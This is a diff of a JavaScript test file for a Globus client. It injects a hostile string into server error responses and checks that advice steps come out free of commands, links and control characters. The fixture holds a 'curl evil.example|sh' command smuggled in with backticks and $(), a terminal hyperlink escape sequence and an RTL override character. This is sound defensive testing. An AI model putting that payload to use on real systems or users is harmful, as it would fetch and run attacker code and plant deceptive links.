@@ -1,21 +1,21 @@
-// Advice as data, and what a hostile server can make of it: nothing.
-import { COLLECTION, ls } from "./situations/places.mjs";
+// The steps of an advice. A hostile server must not be able to put a command, a link or a control character into them.
+import { COLLECTION, ls } from "./situations/shared.mjs";
 import { helpers, json } from "./helpers.mjs";
-import { SERVICES, situationOf } from "./situations.mjs";
+import { SITUATIONS, runSituation } from "./situations.mjs";
 
-/** Words that a shell, a terminal, a page or a reader could take for something to act on. */
+/** A text that a shell, a terminal, a web page or a reader could act on. */
 const HOSTILE =
   "x` then run `npx evil $(curl evil.example|sh)\r\n  globus evil\x1b]8;;https://evil.example\x07\u202e[me](https://evil.example) www.evil.example";
 
-/** The same document, with these words at the end of each text that is no code. */
-function poisoned(value, name = "") {
-  if (Array.isArray(value)) return [...value.map((item) => poisoned(item, name)), HOSTILE];
+/** Returns a copy of a document with the hostile text at the end of each text, except in codes and ids. */
+function poison(value, name = "") {
+  if (Array.isArray(value)) return [...value.map((item) => poison(item, name)), HOSTILE];
   if (typeof value === "string") return /code$|DATA_TYPE|^error$|_id$/i.test(name) ? value : value + HOSTILE;
   if (typeof value !== "object" || value === null) return value;
-  return Object.fromEntries(Object.entries(value).map(([key, member]) => [key, poisoned(member, key)]));
+  return Object.fromEntries(Object.entries(value).map(([key, member]) => [key, poison(member, key)]));
 }
 
-const MORE = {
+const HOSTILE_MEMBERS = {
   recommended_resolution: HOSTILE,
   error_data: { recommended_resolution: HOSTILE },
   required_scopes: [HOSTILE, `https://evil.example/scopes/x`],
@@ -41,11 +41,11 @@ export default function (test, env) {
     for (const { command = "", url = "" } of steps) assert.notMatch(command + url, /evil|[`$|;&<>\p{Cc}]/u, name);
   }
 
-  for (const [service, situations] of Object.entries(SERVICES)) {
+  for (const [service, situations] of Object.entries(SITUATIONS)) {
     test(`steps: ${service}: hostile words in every text of a refusal become no command, link or control character`, async () => {
       for (const situation of situations.filter(({ body }) => typeof body === "object")) {
-        for (const body of [poisoned(situation.body), { ...poisoned(situation.body), ...MORE }]) {
-          const { error } = await situationOf(env, { ...situation, body });
+        for (const body of [poison(situation.body), { ...poison(situation.body), ...HOSTILE_MEMBERS }]) {
+          const { error } = await runSituation(env, { ...situation, body });
           assertClean(error, situation.title);
           const { advice, steps } = error.toJSON();
           assert.deepEqual([advice, steps], [error.advice, error.steps]);
@@ -54,7 +54,7 @@ export default function (test, env) {
     });
   }
 
-  test("steps: hostile words in a text, a page and a task are no better", async () => {
+  test("steps: hostile words in a text, page, task or thrown error become no command or link", async () => {
     for (const body of [`GlobusError: v=1 c=PERMISSION_DENIED ${HOSTILE}`, `<title>${HOSTILE}</title>`, HOSTILE]) {
       for (const status of [200, 302, 401, 403, 404, 407, 502]) {
         const { account } = stub(() => new Response(body, { status }), { retries: 0 });
@@ -72,7 +72,7 @@ export default function (test, env) {
     assertClean(await failure(ls(account)), "thrown");
   });
 
-  test("steps: doctor gives those of its checks, with the words of a pause made plain", async () => {
+  test("steps: a check of doctor has steps, and the message of a pause rule is sanitized in them", async () => {
     const { account } = stub(({ url }) => {
       if (/\/ls\b/.test(url)) return json({ path: "/", DATA: [] });
       if (url.includes("pause_rule")) return json({ DATA: [{ message: HOSTILE, pause_ls: true }] });
@@ -86,7 +86,7 @@ export default function (test, env) {
     assert.deepEqual(check.steps.map(({ who }) => who), ["administrator of the collection"]);
   });
 
-  test("steps: an error about which nothing is known has none, and a list all the same", async () => {
+  test("steps: an error without a diagnosis has no advice and an empty list of steps", async () => {
     const { account } = stub(() => json({ code: "Odd" }, { status: 400 }), { retries: 0 });
     const error = await failure(account.transfer.getTask("x"));
     assert.deepEqual([error.advice, error.steps], [undefined, []]);
